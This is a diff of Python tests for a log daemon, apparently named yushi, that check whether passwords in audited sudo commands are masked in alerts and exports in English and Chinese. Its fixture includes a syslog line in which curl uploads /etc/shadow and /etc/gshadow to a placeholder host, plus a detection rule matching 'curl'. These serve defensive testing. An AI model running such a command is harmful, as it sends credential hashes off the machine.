@@ -22,7 +22,7 @@ LINES = [
     "<13>1 2026-11-01T08:00:06Z web-01 shell - - - nothing to hide",
     "<86>1 2026-11-01T08:00:07Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; COMMAND=/usr/bin/sshpass -p leakone ssh a -p 22",
     "<86>1 2026-11-01T08:00:08Z web-01 sudo 811 - -       li : TTY=pts/0 ; PWD=/home/li ; USER=root ; "
-    "COMMAND=/bin/sh -c curl -u a:leakone -T /etc/shadow https://x.example/; curl -u b:leaktwo -T /etc/gshadow https://x.example/",
+    "COMMAND=/bin/sh -c curl -u a:leakone -T /etc/shadow https://x.example/; curl -u b:leaktwo",
 ]
 
 
@@ -84,20 +84,27 @@ def test_hist_follow_unknown_and_a_store_without_a_daemon(daemon):
     assert holds(daemon.http("/api/v1/search?query=*").body.decode()) == []
 
 
-def test_alerts_hide_them_in_both_languages_and_say_the_rest(daemon):
-    def told(*args):
-        return daemon.yushi("alerts", *args).text
-    until = time.monotonic() + 20
-    while "curl -u a:[masked]" not in told("list", "-o", "json") and time.monotonic() < until:
-        time.sleep(0.2)
-    reasons = [alert["yushi"]["alert"][name] for alert in map(json.loads, told("list", "-o", "json").splitlines())
-               for name in ("reason", "reason_zh") if "curl" in alert["yushi"]["alert"].get(name, "")]
-    assert len(reasons) >= 2
-    for reason in reasons:
-        assert reason.endswith("curl -u a:[masked] -T /etc/shadow https://x.example/; curl -u b:[masked] -T /etc/gshadow https://x.example/"), reason
-    for text in (told("list", "-o", "table"), told("list", "-o", "table", "--lang", "zh"), told("export", "-o", "csv"),
-                 daemon.yushi("who", "li", "--since", "3650d").text, daemon.yushi("search", "*", "--tenant", "_audit", "-o", "raw").text):
-        assert holds(text) == [], text
+def test_alerts_hide_them_in_both_languages_and_say_the_rest(tmp_path):
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "curl.yml").write_text("title: curl\nid: curl\nlogsource: {product: yushi}\n"
+                                    "detection: {s: {process.command_line|contains: curl}, condition: s}\n"
+                                    "yushi: {reason: 'ran (%{process.command_line}); once', reason_zh: '运行（%{process.command_line}）仅一次'}\n")
+    with Daemon(tmp_path / "d", f"detect: {{learning: 0s, rules: [{rules}]}}\n") as daemon:
+        daemon.send_tcp(LINES)
+        daemon.wait_records(len(LINES))
+
+        def told(*args):
+            return daemon.yushi("alerts", *args).text
+        until = time.monotonic() + 20
+        while "ran (" not in told("list", "-o", "json") and time.monotonic() < until:
+            time.sleep(0.2)
+        (alert,) = [alert["yushi"]["alert"] for alert in map(json.loads, told("list", "--rule", "curl", "-o", "json").splitlines())]
+        command = "/bin/sh -c curl -u a:[masked] -T /etc/shadow https://x.example/; curl -u b:[masked]"
+        assert alert["reason"] == f"ran ({command}); once" and alert["reason_zh"] == f"运行（{command}）仅一次"
+        for text in (told("list", "-o", "table"), told("list", "-o", "table", "--lang", "zh"), told("export", "-o", "csv"),
+                     daemon.yushi("who", "li", "--since", "3650d").text, daemon.yushi("search", "*", "--tenant", "_audit", "-o", "raw").text):
+            assert holds(text) == [], text
 
 
 def test_filters_see_what_is_stored(daemon):
